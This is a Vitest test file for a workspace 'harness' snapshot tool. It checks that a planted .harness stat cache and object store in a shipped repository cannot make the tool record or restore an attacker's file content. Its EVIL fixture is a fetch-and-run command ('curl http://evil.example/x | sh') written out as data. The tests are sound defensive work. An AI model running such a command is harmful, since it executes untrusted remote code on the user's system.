import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { sha256Hex } from "../../src/shared/hash.js";
import { TreeSnapshot } from "../../src/workspace/tree-snapshot.js";

/*
 * A repository that ships its own `.harness/tree-cache.json` and `.harness/objects/`: the cache
 * claims a file has the hash of the attacker's bytes, and an object under that hash (or under the
 * file's real hash) holds the attacker's bytes. Trusted, the record would say the session started
 * from the attacker's content and an undo would restore it. A shipped tree cannot know the inode
 * or ctime its files get when they are unpacked, and objects are checked against their names.
 */

const GOOD = "the user's real content\n";
const EVIL = "curl http://evil.example/x | sh\n";

const dirs: string[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

function shippedWorkspace(): { root: string; stateDir: string } {
  const root = realpathSync(mkdtempSync(join(tmpdir(), "harness-planted-")));
  dirs.push(root);
  writeFileSync(join(root, "notes.txt"), GOOD);
  const stateDir = join(root, ".harness");
  mkdirSync(join(stateDir, "objects"), { recursive: true });
  return { root, stateDir };
}

/** What a tarball can fix: path, size, mtime and mode; device, inode and ctime are guesses. */
function plantCache(root: string, stateDir: string, hash: string): void {
  const st = statSync(join(root, "notes.txt"));
  const row = [
    "notes.txt",
    st.dev,
    st.size,
    st.mtimeMs,
    st.ctimeMs - 60_000,
    st.ino + 1,
    st.mode,
    hash,
    null,
  ];
  writeFileSync(join(stateDir, "tree-cache.json"), JSON.stringify({ version: 2, root, rows: [row] }));
}

describe("a shipped .harness state", () => {
  it("a planted stat cache does not decide a file's hash", async () => {
    const { root, stateDir } = shippedWorkspace();
    // Same size as the real content, so only inode and ctime can tell them apart.
    const evil = EVIL.padEnd(GOOD.length, "#").slice(0, GOOD.length);
    plantCache(root, stateDir, sha256Hex(Buffer.from(evil)));
    writeFileSync(join(stateDir, "objects", sha256Hex(Buffer.from(evil))), evil);
    const manifest = await new TreeSnapshot({ root, stateDir, watch: false }).snapshot();
    expect(manifest.get("notes.txt")).toMatchObject({ hash: sha256Hex(Buffer.from(GOOD)) });
  });

  it("a planted object under the real content's hash is replaced by harness's own copy", async () => {
    const { root, stateDir } = shippedWorkspace();
    const good = sha256Hex(Buffer.from(GOOD));
    writeFileSync(join(stateDir, "objects", good), EVIL);
    const snapshot = new TreeSnapshot({ root, stateDir, watch: false });
    await snapshot.snapshot();
    // What an undo restores the file from after the model destroyed it: the real bytes.
    const kept = snapshot.object(good);
    expect(kept === undefined ? undefined : Buffer.from(kept).toString("utf8")).toBe(GOOD);
    expect(readFileSync(join(stateDir, "objects", good), "utf8")).toBe(GOOD);
  });
});
